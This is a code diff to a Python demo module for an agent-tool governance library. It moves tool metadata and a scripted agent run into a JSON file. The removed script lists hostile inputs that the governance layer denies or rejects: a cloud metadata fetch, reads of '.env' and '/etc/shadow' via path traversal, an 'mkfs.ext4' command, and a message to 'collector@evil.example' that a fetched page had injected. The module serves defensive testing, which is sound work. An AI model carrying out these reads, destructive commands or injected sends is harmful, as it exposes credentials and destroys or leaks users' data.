@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from typing import Any
 
 from langchain_core.callbacks import CallbackManagerForLLMRun
@@ -12,50 +12,10 @@ from langchain_core.outputs import ChatGeneration, ChatResult
 
 from agenttool_otel.catalog import GovernOptions
 from agenttool_otel.cli.demo.workspace import World
+from agenttool_otel.values.tables import load_table
 
-_READS: GovernOptions = {"tool_kind": "file_operation", "access_kinds": ["file_read"], "read_only": True}
-
-FACTS: dict[str, GovernOptions] = {
-    "list_files": {
-        "tool_kind": "file_operation",
-        "access_kinds": ["file_read"],
-        "read_only": True,
-        "path_args": ["folder"],
-    },
-    "read_file": {
-        "tool_kind": "file_operation",
-        "access_kinds": ["file_read"],
-        "read_only": True,
-        "max_inline_chars": 4000,
-    },
-    "search_files": {"tool_kind": "file_operation", "access_kinds": ["file_read"], "read_only": True},
-    "write_file": {
-        "tool_kind": "file_operation",
-        "access_kinds": ["file_write"],
-        "write_effects": ["local_persistent"],
-        "read_only": False,
-        "destructive": False,
-    },
-    "run_shell": {
-        "tool_kind": "shell_command",
-        "access_kinds": ["file_read", "file_write", "code_execution"],
-        "write_effects": ["local_persistent"],
-        "command_args": ["command"],
-        "read_only": "classifier:command_read_only",
-        "destructive": "classifier:command_destructive",
-        "concurrency_safe": "same_as:is_read_only",
-        "risk_level": "medium",
-    },
-    "fetch_page": {"tool_kind": "web_search", "access_kinds": ["network"], "read_only": True, "url_args": ["url"]},
-    "send_message": {
-        "access_kinds": ["external_send"],
-        "write_effects": ["remote_mutation"],
-        "destructive": False,
-        "open_world": True,
-        "read_only": False,
-        "risk_level": "medium",
-    },
-}
+_SCRIPT: dict[str, Any] = load_table(__package__, "script.json")
+FACTS: dict[str, GovernOptions] = _SCRIPT["facts"]
 """What the developer knows of the tools: one line each, and no change to the tools."""
 
 
@@ -74,29 +34,9 @@ class Step:
 
 def steps_for(world: World) -> list[Step]:
     """Return the script."""
-    return [
-        Step("list_files", {"folder": "."}, "allow", "succeeded", "look around"),
-        Step("read_file", {"path": "notes.txt"}, "allow", "succeeded", "read what is to be done"),
-        Step("search_files", {"pattern": "TODO", "path": "notes.txt"}, "allow", "succeeded", "find the open points"),
-        Step("run_shell", {"command": "wc -l notes.txt && head -n 2 inventory.csv"}, "allow", "succeeded",
-             "a shell command that is proven to read only"),
-        Step("fetch_page", {"url": world.page_url}, "allow", "succeeded",
-             "a page, with a token in it that must not reach the trace", redacted=True),
-        Step("fetch_page", {"url": "http://169.254.169.254/latest/meta-data/"}, "deny", "denied",
-             "the cloud's metadata service"),
-        Step("read_file", {"path": ".env"}, "deny", "denied", "a file with credentials"),
-        Step("read_file", {"path": "../../../../etc/shadow"}, "deny", "denied", "a path that leaves the workspace"),
-        Step("run_shell", {"command": "mkfs.ext4 /dev/agenttool-demo"}, "deny", "denied", "a destructive command"),
-        Step("run_shell", {"command": "sed -i s/TODO/DONE/ notes.txt"}, "ask", "rejected",
-             "a change in place: asked, and rejected"),
-        Step("send_message", {"recipient": "collector@evil.example", "text": "inventory"}, "ask", "rejected",
-             "an address that only the fetched page named: asked, and rejected"),
-        Step("read_file", {"file": "notes.txt"}, "", "failed", "arguments that don't fit the schema"),
-        Step("read_file", {"path": "inventory.csv"}, "allow", "succeeded",
-             "a large result: kept outside, previewed for the model", persisted=True),
-        Step("write_file", {"path": "summary.md", "text": "# Summary\nTwo points are open.\n"}, "ask", "succeeded",
-             "one change: asked, and approved"),
-    ]  # fmt: skip
+    steps = [Step(**row) for row in _SCRIPT["steps"]]
+    page = {"url": world.page_url}
+    return [replace(step, arguments=page) if "$page_url" in step.arguments.values() else step for step in steps]
 
 
 class ScriptedModel(BaseChatModel):
